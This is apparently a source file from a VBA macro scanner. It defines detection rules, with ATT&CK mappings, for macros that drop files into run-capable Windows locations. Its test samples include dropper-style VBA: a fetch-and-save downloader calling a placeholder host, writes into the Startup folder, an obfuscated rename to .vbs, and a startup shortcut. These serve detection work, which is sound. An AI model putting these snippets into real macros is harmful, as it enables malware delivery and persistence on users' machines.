/** Files that macros write where Windows runs them. */
import type { MacroCall } from '../understanding';
import type { Value } from '../values/value';
import { argument } from './technique';
import type { Strength, Surroundings, Technique } from './technique';
import { endsUnknown, isInDropFolder, isInStartup, isShown, runs } from './places';
import { KEPT } from './spelling';

/** What is written: a program where it starts by itself, a program, or something whose name nobody knows. */
function strengthOfTarget(path: string, _: MacroCall, around: Surroundings): Strength {
  if (isInStartup(path)) return 1;
  if (runs(path)) return around.fetches ? 1 : 0.5;
  if (isShown(path)) return 0;
  // What was fetched, into a file whose name nobody knows.
  if (endsUnknown(path) && around.fetches) return 1;
  // The name of the file is kept in the document, as droppers of 2022 kept it.
  return path.endsWith(KEPT) && isInDropFolder(path) ? 0.5 : 0;
}

const onlyWrites = ({ arguments: values }: MacroCall): readonly (Value | undefined)[] =>
  values[1]?.kind === 'text' && /^(?:output|append|binary|random)/.test(values[1].text.toLowerCase())
    ? [values[0]]
    : [];

export const writing: readonly Technique[] = [
  {
    id: 'written-file',
    does: 'writes',
    calls: ['open'],
    kind: 'file',
    on: 'alone',
    matters: onlyWrites,
    strength: strengthOfTarget,
    attack: ['T1059.005', 'T1105'],
    fires: [
      'Open "c:\\programdata\\notreal.bat" For Output As #1\nPrint #1, "rem nothing"\nClose #1',
      'If True Then Open Environ("TEMP") & "\\notreal.vbs" For Binary As #1',
      'Open Environ("APPDATA") & "\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\notreal.vbs" For Output As #1',
    ],
    silent: [
      'Open ThisWorkbook.Path & "\\export.csv" For Output As #1',
      'Open "c:\\programdata\\notreal.bat" For Input As #1',
      'Open Range("A1").Value For Output As #1\nPrint #1, "a;b"',
    ],
  },
  {
    id: 'written-stream',
    does: 'writes',
    calls: ['savetofile'],
    on: 'anything',
    matters: argument(0, 'filename'),
    strength: strengthOfTarget,
    attack: ['T1105'],
    fires: [
      'Set h = CreateObject("Microsoft.XMLHTTP")\nh.Open "GET", "http://files.invalid/a", False\nh.Send\nWith CreateObject("ADODB.Stream")\n.Write h.responseBody\n.SaveToFile target, 2\nEnd With',
    ],
    silent: [
      'Set s = CreateObject("ADODB.Stream")\ns.WriteText Range("A1").Value\ns.SaveToFile ThisWorkbook.Path & "\\list.csv", 2',
    ],
  },
  {
    id: 'written-text',
    does: 'writes',
    calls: ['createtextfile', 'opentextfile'],
    on: ['', 'scripting.filesystemobject', /folder/],
    matters: (call) =>
      call.name === 'opentextfile' && isRead(call.arguments[1] ?? call.named.get('iomode'))
        ? []
        : argument(0, 'filename')(call),
    strength: strengthOfTarget,
    attack: ['T1059.005'],
    fires: ['CreateObject("Scripting.FileSystemObject").CreateTextFile("C:\\Users\\Public\\notreal.js").Write x'],
    silent: [
      'CreateObject("Scripting.FileSystemObject").CreateTextFile ThisWorkbook.Path & "\\log.txt", True',
      'x = CreateObject("Scripting.FileSystemObject").OpenTextFile("C:\\Data\\logon.bat", 1).ReadAll',
    ],
  },
  {
    id: 'copied-file',
    does: 'writes',
    calls: ['copyfile', 'movefile', 'filecopy', 'copy', 'move'],
    on: ['alone', '', 'scripting.filesystemobject', /^scripting\.filesystemobject\/getfile$/],
    matters: ({ name, arguments: values, named }) => [
      name === 'copy' || name === 'move' ? values[0] : (values[1] ?? named.get('destination')),
    ],
    strength: strengthOfTarget,
    attack: ['T1036'],
    fires: ['FileCopy "C:\\nowhere\\a.txt", "C:\\ProgramData\\notreal.exe"'],
    silent: [
      'FileCopy ThisWorkbook.Path & "\\tool.xlam", Application.UserLibraryPath & "\\tool.xlam"',
      'FileCopy "a.xlsx", "\\\\server\\bak\\a.xlsx"',
    ],
  },
  {
    id: 'renamed-file',
    does: 'writes',
    calls: ['name'],
    kind: 'file',
    on: 'alone',
    matters: ({ arguments: values }) => [values[1]],
    strength: strengthOfTarget,
    attack: ['T1036'],
    fires: [
      'Name "C:\\ProgramData\\a.txt" As "C:\\ProgramData\\a." & "v" & "bs"',
      'If 1 Then Name "C:\\a.txt" As "C:\\nowhere\\a.hta"',
    ],
    silent: ['Name "C:\\Data\\a.txt" As "C:\\Data\\a.bak"'],
  },
  {
    id: 'saved-document',
    does: 'writes',
    calls: ['saveas', 'saveas2', 'savecopyas', 'exportasfixedformat'],
    on: 'anything',
    matters: argument(0, 'filename'),
    strength: strengthOfTarget,
    attack: ['T1137.001'],
    fires: [
      'ActiveDocument.SaveAs2 FileName:="C:\\nowhere\\notreal.vbs", FileFormat:=2',
      'ActiveDocument.SaveAs2 Application.StartupPath & "\\x.dotm", 15',
    ],
    silent: [
      'ActiveWorkbook.SaveAs Filename:=ThisWorkbook.Path & "\\" & Format(Date, "yyyymmdd") & ".xlsm"',
      'ThisWorkbook.SaveCopyAs "\\\\server\\bak\\" & ThisWorkbook.Name',
    ],
  },
  {
    id: 'shortcut',
    does: 'persists',
    calls: ['createshortcut'],
    on: ['', 'wscript.shell'],
    matters: argument(0, 'pathlink'),
    strength: (path) => (isInStartup(path) ? 1 : 0),
    attack: ['T1547.009'],
    fires: [
      'CreateObject("WScript.Shell").CreateShortcut(CreateObject("WScript.Shell").SpecialFolders("Startup") & "\\a.lnk").Save',
    ],
    silent: [
      'CreateObject("WScript.Shell").CreateShortcut(CreateObject("WScript.Shell").SpecialFolders("Desktop") & "\\list.lnk").Save',
    ],
  },
];

/** ForReading, which is also what is meant where nothing is said. */
function isRead(mode: Value | undefined): boolean {
  return mode === undefined || (mode.kind === 'number' && mode.number === 1);
}
